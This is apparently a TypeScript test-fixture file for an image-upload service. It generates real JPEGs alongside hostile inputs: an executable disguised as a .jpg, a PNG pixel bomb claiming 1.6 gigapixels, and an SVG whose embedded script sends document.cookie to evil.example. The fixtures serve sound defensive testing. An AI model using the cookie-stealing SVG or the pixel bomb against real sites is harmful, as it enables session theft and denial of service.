// Files for the image service's tests: real encoded images made with sharp, a real photo (a film
// still, tests/fixtures/j5.jpeg), and the hostile ones — a program renamed .jpg, a PNG whose header
// claims a billion pixels, an SVG carrying a script.
import { deflateSync } from 'node:zlib';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';

/** A 1169×584 film still, copied from autocannon 9.0.0's test folder (MIT licence). */
export const REAL_PHOTO_PATH = join(__dirname, '..', '..', 'fixtures', 'j5.jpeg');

export function realPhoto(): Buffer {
  return readFileSync(REAL_PHOTO_PATH);
}

/** A noisy colour JPEG (noise: it does not compress to nothing), with EXIF/XMP credit fields when asked. */
export async function jpeg(
  width = 800,
  height = 600,
  credit?: { artist?: string; copyright?: string; xmpCredit?: string; xmpSource?: string },
): Promise<Buffer> {
  let image = sharp({
    create: {
      width,
      height,
      channels: 3,
      background: { r: 40, g: 120, b: 200 },
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  }).jpeg({ quality: 80 });
  if (credit?.artist || credit?.copyright)
    image = image.withExif({
      IFD0: {
        ...(credit.artist ? { Artist: credit.artist } : {}),
        ...(credit.copyright ? { Copyright: credit.copyright } : {}),
        Software: 'Appareil secret 3000',
      },
    });
  if (credit?.xmpCredit || credit?.xmpSource)
    image = image.withXmp(
      `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" photoshop:Credit="${credit.xmpCredit ?? ''}" photoshop:Source="${credit.xmpSource ?? ''}"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`,
    );
  return image.toBuffer();
}

/** A Windows program's first bytes (MZ + PE header), the kind of file renamed photo.jpg. */
export function renamedExe(): Buffer {
  const file = Buffer.alloc(8192, 0);
  file.write('MZ', 0, 'latin1');
  file.writeUInt32LE(0x80, 0x3c);
  file.write('PE\0\0', 0x80, 'latin1');
  file.writeUInt16LE(0x14c, 0x84);
  file.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  return file;
}

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A few kilobytes of PNG whose header says 40,000 × 40,000 grey pixels (1.6 gigapixels). */
export function pixelBomb(side = 40_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  // A few rows of zeros: the rest would decompress to 1.6 GB.
  const rows = deflateSync(Buffer.alloc((side + 1) * 4));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>fetch("https://evil.example/"+document.cookie)</script><rect width="100" height="100"/></svg>',
);
